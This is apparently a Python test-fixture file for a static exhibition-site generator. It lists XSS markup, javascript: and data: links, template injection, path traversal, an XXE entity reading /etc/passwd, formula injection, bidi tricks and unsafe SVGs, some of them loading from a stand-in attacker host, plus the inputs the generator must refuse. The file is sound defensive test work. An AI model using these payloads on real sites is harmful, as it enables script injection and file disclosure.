"""Hostile exhibitions, and the expected texts of their pages.

Every attack is a text, and is used in every field that takes a text. `REFUSED` contains what must be
refused; everything else is built.
"""

import dataclasses
import json
import re
import unicodedata

import content

# Chromium shows a dialog if any of these runs.
RUN = "alert(1)"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT SRC=//attack.example/x.js></SCRIPT><sCrIpT>{RUN}</sCrIpT>",
    "picture": f"<img src=x onerror={RUN}><image src=x onerror={RUN}>",
    "drawing": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "nested parsers": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror={RUN}>\">",
    "frame": f"<iframe srcdoc='<script>{RUN}</script>'></iframe><object data=data:text/html,x><embed src=x>",
    "base": "<base href=//attack.example/><link rel=stylesheet href=//attack.example/x.css>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "form": f"<form action=javascript:{RUN}><input autofocus onfocus={RUN}><button formaction=javascript:{RUN}>x",
    "end of title": f"</title></textarea></style></noscript></template></head><script>{RUN}</script>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of script with space": f"</script ><svg/onload={RUN}></scr\\u0069pt>",
    "end of element": f"</p></h1></a></main></body></html><script>{RUN}</script>",
    "double quote": f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"",
    "single quote": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "backtick": f"`onmouseover={RUN} x=`",
    "unclosed": "<a href=\"",
    "comment": f"<!--<script>{RUN}//--> --!> <!-> <!--> -->",
    "comment of a script": "<!--<script>",
    "character data": f"]]><![CDATA[<script>{RUN}</script>]]>",
    "instruction": f"<?xml-stylesheet href='//attack.example/'?><?php {RUN} ?><% {RUN} %>",
    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "style": "</style><style>*{display:none!important}@import '//attack.example/x.css'</style>",
    "style of an element": "<p style='position:fixed;inset:0;background:url(//attack.example/)'>x",
    "references": "&lt;script&gt;&#60;script&#62;&#x3C;b&#x3E; &amp;amp; &nbsp &notit; &#0; &#x110000; &",
    "names of a template": "{{name}} {{{desc}}} {{&title}} {{>layout}} {{#items}}{{/items}} {{=<% %>=}} {{!}}",
    "names of words": "{title} {list_title} {number} {page} {pages} {visitors} {}",
    "other languages": "${7*7} #{7*7} {%include x%} <%=7*7%> $(id) `id` ;id| %n%s %s",
    "old encodings": "+ADw-script+AD4-alert(1)+ADw-/script+AD4- \u00bc\u00be \uff1cscript\uff1e",
    "end of JSON": "\"}],\"@type\":\"Event\",\"url\":\"javascript:alert(1)\"}//\\",
    "escapes": "\\u003cscript\\u003e \\x3c \\\" \\\\ \\' \\/ \\n \\0",
    "script address": f"javascript:{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "formulas": "=HYPERLINK(\"http://attack.example\") @SUM(1) +1 -1",
}

CONTROLS = {
    "ends of strings": "a\0b\u0001c",
    "control characters": "a" + "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32)])) + "b",
    "later control characters": "a" + "".join(map(chr, range(127, 160))) + "b",
    "noncharacters": "a\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0010ffffb",
    "terminal": "a\x1b[2J\x1b]0;x\x07b",
    "lines": "a\r\nb\rc\nd\te",
    "separators": "a\u2028b\u2029c\u0085d",
    "nobody sees": "a\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u180eb",
    "tags": "a" + "".join(chr(0xE0000 + ord(sign)) for sign in "script") + "\U000e007fb",
    "byte order": "\ufeff\ufffea",
}

DIRECTIONS = {
    "override": "무늬\u202e있는 글 (abc)",
    "override to the right": "무늬\u202d있는 שלום (abc)",
    "embedding": "무늬\u202b있는 글 (abc)",
    "isolate": "무늬\u2067있는 글\u202e (abc)",
    "first strong": "\u2068שלום\u202e무늬",
    "too many ends": "무늬\u2069\u2069\u202c\u202c\u2069있는\u202e글",
    "end and override": "\u2069\u202e무늬 있는 글",
    "many": "\u202e\u2067" * 70 + "무늬" + "\u202c" * 3,
    "beyond a paragraph": "무늬\u2067\u2029\u202e있는\u2069글",
    "beyond a line": "무늬\u202e\n있는\n글",
    "marks": "\u200f\u061c!무늬, (abc)\u200e\u200f",
    "right to left": "שלום (עולם) 1900, العربية!",
    "gloss": "무늬\u202e있는(gl\u202eoss)",
    "old marks": "무늬\u206e\u206d\u206c\u206b\u206a\u206f글",
    "beyond a bracket": "직\u202e지(直\u2067指)",
}

SHAPES = {
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈🇰🇷👍🏽",
    "slashes": "////",
    "backslashes": "\\\\\\",
    "dots": "..",
    "way up": "../../../../etc/passwd",
    "way up in code": "..%2f..%2f%2e%2e/%00%0d%0aLocation:%20//attack.example",
    "network path": "\\\\attack.example\\share",
    "disk": "C:\\Windows\\con",
    "device": "CON",
    "device with extension": "nul.txt",
    "other device": "aux",
    "letters of pieces": unicodedata.normalize("NFD", "해금과 가야금"),
    "piled marks": "Z" + "\u0301\u0302\u0327" * 5 + "algo",
    "capitals": "HAEGEUM",
    "small letters": "haegeum",
    "dotless": "HAEGEUMıİſK",
    "name of the list": "index",
    "name of a page": "page-2",
    "place in a page": "content",
    "object": "__proto__",
    "number": "-0",
    "nothing": "null",
    "wide letters": "W" * 320,
    "320 syllables": "꽱" * 320,
    "320 hanja": "麤" * 320,
    "320 wide signs": "\ufdfd" * 40,
    "320 emoji": "👩🏽‍🚀" * 80,
    "320 joined letters": "a\u2060" * 160,
    "320 spaces that do not break": "a\u00a0" * 160,
    "320 letters and an end": "ab\u200d" * 106 + "(" + "x" * 200 + ")",
    "320 brackets": "(" * 320,
    "320 dots": "." * 320,
    "320 hyphens": "-" * 320,
    "320 of a right to left script": "ש" * 320,
}

TEXTS = MARKUP | CONTROLS | DIRECTIONS | SHAPES

# Markdown that could bring scripts, requests or elements into a page.
SCRIPT_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;&#x61;vascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:{RUN}",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg>",
    "file:///etc/passwd",
]
MARKDOWN = {
    "raw HTML": "a <b onclick=alert(1)>b</b> <script>alert(1)</script>\n\n<script>\nalert(1)\n</script>\n\n"
    "<svg/onload=alert(1)>\n\n<!-- <script> -->\n\n<![CDATA[<script>]]>\n\n<?php ?>",
    "HTML cut short": "<img src=x onerror=alert(1) \n\na\n\n<a href=\"\n\nb <",
    "script links": "\n\n".join(f"[a](<{one}>) b" for one in SCRIPT_ADDRESSES),
    "plain script links": "\n\n".join(f"[a]({one}) b" for one in SCRIPT_ADDRESSES if "<" not in one),
    "script autolinks": f"<javascript:{RUN}> <vbscript:{RUN}> <data:text/html,x>",
    "script references": f"[a] [b][a] [c][]\n\n[a]: javascript:{RUN}\n[c]: data:text/html,x '\"onclick={RUN}'",
    "script pictures": "\n\n".join(f"![a](<{one}>) b" for one in SCRIPT_ADDRESSES),
    "foreign pictures": "![a](https://attack.example/x.png) ![b](//attack.example/y.png)\n\n"
    "[![c](http://attack.example/z.png)](https://attack.example/)",
    "breakouts": "[a](https://e.example/\"onclick=alert(1)//) [b](<https://e.example/' onclick='x>)\n\n"
    "[c](https://e.example/ '\"><script>alert(1)</script>') [d](https://e.example/ \"' onclick='x\")\n\n"
    "![\"onerror=alert(1)](images/poster '\"onerror=\"alert(1)') ![<script>](images/poster)",
    "web links": "<https://e.example/?a=1&b=%22> [a](//e.example) [b](HTTPS://e.example)\n\n"
    "[d](http://e.example\"onclick=x)",
    "other links": "[a](mailto:a@b.example) [b](tel:+1) [c](#content) [d](?x=<script>)",
    "code": "```\"><script>alert(1)</script> x\n<script>alert(1)</script>\n```\n\n`<script>alert(1)</script>`\n\n"
    "    <script>alert(1)</script>\n\n~~~ </code>\n</code></pre><script>alert(1)</script>",
    "names": "{{name}} {{{desc}}} {{>layout}} [{{name}}](https://e.example/{{name}}) `{{desc}}`",
    "references": "&lt;script&gt; &#60;script&#62; &#0;&#1;&#128;&#xFFFE;&#xFFFF;&#x202E; &Tab;&NewLine;x &bogus;",
    "directions": "가\u202e나 *다\u202e라* 마\n\n나\u2067라 [바\u202e사](https://e.example/ '\u202e아')\n\n"
    "- \u202e자\n- 차\n\n![카\u202e타](images/poster '\u202e파')\n\n\u2069\u202e하",
    "control characters": "a\u0001b\u007fc\u0085d\ufffee\n\n`\u0001`\n\n    \u0002\n\n[a](https://e.example/\u0001 '\u0003')",
    "deep quotes": ">" * 100 + " 깊은 글",
    "deep lists": "\n".join("  " * depth + "- 글" for depth in range(60)),
    "deep ordered lists": "\n".join("          " * depth + "99999999. 글" for depth in range(12)),
    "deep marks": "*" * 200 + "글" + "*" * 200,
    "brackets": "[" * 300 + "글" + "](images/poster.svg)" * 3,
    "long words": "W" * 320 + "\n\n# " + "W" * 320 + "\n\n> - " + "꽱" * 320 + "\n\n`" + "x" * 320 + "`\n\n    " + "y" * 320,
    "numbers": "999999999. a\n\n000000000. b\n\n123456789) c",
    "headings": "# a\n\n###### b\n\n####### c\n\nd\n===\n\ne\n---",
}
# Destinations that do not lead to a page of the site, however a browser reads them.
DEAD_LINKS = [
    f"j\\avascript:{RUN}",
    f"java&#10;script:{RUN}",
    f"java&Tab;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"&#32;javascript:{RUN}",
    f"javascript&#58 {RUN}",
    "/\\attack.example/",
    "\\\\\\\\attack.example/",
    "/etc/passwd",
    "../../../etc/passwd",
    "images/../../secret",
    "images/%2e%2e/%2e%2e/secret",
    "images/poster%00.svg",
    "items/../../secret",
    ".expo-site.json/../../x",
]

# File names with a different meaning in other systems, addresses, srcset or HTML.
PICTURES = [
    "quote\"'`.svg",
    "<b>&amp;.svg",
    "per%20cent%2e%2e.svg",
    "hash#query?x=1.svg",
    "a b,c 2x, d.svg",
    "{{name}}.svg",
    "-rf.svg",
    "~root.svg",
    "한글과 漢字.svg",
    unicodedata.normalize("NFD", "나뉜 글자.svg"),
    "무늬\u202egvs.svg",
    "javascript:alert(1).svg",
    "semi;colon&and=is+plus.svg",
    "emoji👨‍👩‍👧.svg",
    "CON.svg",
    "x" * 200 + ".svg",
]


def tidied(text):
    """The expected text of a page: an independent implementation for the tests."""
    text = unicodedata.normalize("NFC", re.sub("\r\n?", "\n", text))
    shown, opened = [], []

    def close():
        while opened:
            shown.append(opened.pop())

    for sign in text:
        code = ord(sign)
        if sign in "\n\u2029":
            close()
        if sign in "\u202a\u202b\u202d\u202e":
            opened.append("\u202c")
        elif sign in "\u2066\u2067\u2068":
            opened.append("\u2069")
        elif sign == "\u202c":
            if not opened or opened[-1] != sign:
                continue
            opened.pop()
        elif sign == "\u2069":
            if sign not in opened:
                continue
            while opened.pop() != sign:
                pass
        is_control = unicodedata.category(sign) == "Cc" and sign not in "\t\n"
        is_none = 0xFDD0 <= code <= 0xFDEF or code & 0xFFFE == 0xFFFE
        shown.append("\ufffd" if is_control or is_none else sign)
    close()
    return "".join(shown)


def item(text, desc, image_name):
    """An exhibit whose every text is the same."""
    fields = ["name", "short_desc", "alt", "caption", "credit", "rights"]
    return dict.fromkeys(fields, text) | {"desc": desc, "image_name": image_name, "type": text}


def exposition(text="전시", description="글입니다."):
    return {
        "title": text,
        "visitors": 1,
        "location": text,
        "duration": text,
        "description": description,
        "poster_alt": text,
        "list_title": text,
    }


def write(folder, about, items, settings=None, words=None):
    """Writes an exhibition with a small picture for each item, a poster and a flag."""
    images = folder / "images"
    images.mkdir(parents=True)
    names = {one["image_name"] for one in items}
    for name in {"poster.svg", "flag.svg", *names}:
        (images / name).write_text(content.PICTURE)
    (folder / "exposition_universelle_1900.json").write_text(json.dumps(about))
    (folder / "items.json").write_text(json.dumps(items))
    if settings is not None:
        (folder / "site.json").write_text(json.dumps(settings))
    if words is not None:
        (folder / "words").mkdir()
        (folder / "words/ko.json").write_text(json.dumps(words))
    return folder


def items():
    """An item of each attack in its texts, one of each in its Markdown, one of each file name."""
    names = [f"picture{number}.svg" for number in range(len(TEXTS))]
    texts = [item(text, text_block(text), name) for text, name in zip(TEXTS.values(), names)]
    markdown = [item("글", desc, names[0]) for desc in MARKDOWN.values()]
    pictures = [item("그림", "글입니다.", name) for name in PICTURES]
    return texts + markdown + pictures


def text_block(text):
    """A text as Markdown that shows it unchanged: every ASCII punctuation character has a backslash."""
    line = " ".join(text.split())
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", line)


def write_items(folder):
    """One exhibition of all attacks on items."""
    settings = {"base_url": "https://exposition.example/a/", "footer": "꼬리말"}
    return write(folder, exposition(), items(), settings)


def write_exposition(folder, text, words):
    """An exhibition whose texts, footer and words are an attack."""
    settings = {"base_url": "https://exposition.example/a/", "footer": text}
    own = {key: text + word for key, word in words.items() if key not in {"digit_group", "locale"}}
    return write(folder, exposition(text, text_block(text)), [item("글", "글", "a.svg")], settings, own)


def write_same_names(folder, count):
    """An exhibition of identical items."""
    one = item("같은 이름", "글", "same.svg")
    return write(folder, exposition(), [one] * count)


@dataclasses.dataclass(frozen=True)
class Refused:
    """Content that must be an error: the message and its place."""

    name: str
    code: str
    file: str
    text: str
    picture: str = content.PICTURE


def with_item(**members):
    one = {"name": "이름", "image_name": "a.svg", "short_desc": "", "desc": "글"} | members
    return json.dumps([one])


def refused():
    """Everything that must be refused, with the code of the error."""
    blank = ["", " ", "\u200b", "\u202e", "\u0001", "\u2066\u2069", "\ufeff", "\u3164"]
    for text in blank:
        yield Refused(f"name {text!r}", "empty-text", "items.json", with_item(name=text))
    outside = [
        "../a", "/etc/passwd", "a\\b", "a\0", "a/../b", "..", ".", ".hidden", "images/a", "\\\\a\\b",
        "C:\\a", "a\nb", "a\u007fb", "x" * 256, "./a", "a/",
    ]  # fmt: skip
    for name in outside:
        yield Refused(f"image {name!r}", "invalid-image-name", "items.json", with_item(image_name=name))
    for name in ["%2e%2e%2fa", "a%00", "..%5ca", "A.SVG/", "a.svg\u202e"]:
        code = "invalid-image-name" if "/" in name or name[0] == "." else "missing-image"
        yield Refused(f"image {name!r}", code, "items.json", with_item(image_name=name))
    identifiers = [
        "", "../a", "a/b", "/", "\\", "a b", "a\0", "..", ".", "a.html", "%2e%2e", "a\u202eb", "a\nb",
        "<b>", "a\"b", "a'b", "x" * 121, "a#b", "a?b", "C:", "\u200b", "\u2069",
    ]  # fmt: skip
    for name in identifiers:
        yield Refused(f"id {name!r}", "invalid-id", "items.json", with_item(id=name))
    for date in ["", "<b>", "1900-02-30", "1900-04-14\0", "１９００-04-14", "1900-04-14\"onload="]:
        yield Refused(f"date {date!r}", "invalid-date", "items.json", with_item(modified=date))
    addresses = [
        "", f"javascript:{RUN}", "data:,", "//attack.example", "https://", "https://a b", "https://a\"onload=x",
        "https://a<b", "https://a'b", "https://a@b", "https://a\nb", "https://a\\b", "https://a?x", "https://a#x",
        "https://a\u202eb", "https://:80", "ftp://a.example",
    ]  # fmt: skip
    for address in addresses:
        yield Refused(f"base {address!r}", "invalid-base-url", "site.json", json.dumps({"base_url": address}))
    languages = ["", "\"><script>", "../../etc/passwd", "ko/..", "ko\0", "xx", "ko onload=x", "한국어", "k" * 36]
    for language in languages:
        yield Refused(f"language {language!r}", "unknown-language", "site.json", json.dumps({"language": language}))
    for link in DEAD_LINKS:
        yield Refused(f"link {link}", "dead-link", "items.json", with_item(desc=f"[a](<{link}>)"))
    for text in ['"\\ud800"', '"\\udc00\\ud800"', '"a\\ud83d"', '"a\u0001"', '"a\nb"', '"\\x41"', '"a', "'a'", "NaN"]:
        whole = with_item(name="NAME").replace('"NAME"', text)
        yield Refused(f"JSON {text!r}", "invalid-json", "items.json", whole)
    yield Refused("nested arrays", "invalid-json", "items.json", "[" * 1_000_000)
    yield Refused("nested objects", "invalid-json", "items.json", '{"a":' * 1_000_000)
    deep = with_item(x=0).replace('"x": 0', '"x": ' + "[" * 600 + "]" * 600)
    yield Refused("nested deep", "invalid-json", "items.json", deep)
    yield Refused("twice", "duplicate-key", "items.json", with_item().replace('{"name"', '{"name": "b", "name"', 1))
    yield Refused("quotes", "nested-too-deep", "items.json", with_item(desc=">" * 5000 + " a"))
    yield Refused("long text", "text-too-long", "items.json", with_item(desc="가" * 6_000_000))
    drawings = [
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
        f"<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:{RUN}'><path/></a></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://attack.example/x.png'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><p/></foreignObject></svg>",
        "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>",
    ]
    for number, drawing in enumerate(drawings):
        yield Refused(f"drawing {number}", "unsafe-drawing", "items.json", with_item(), drawing)


REFUSED = list(refused())
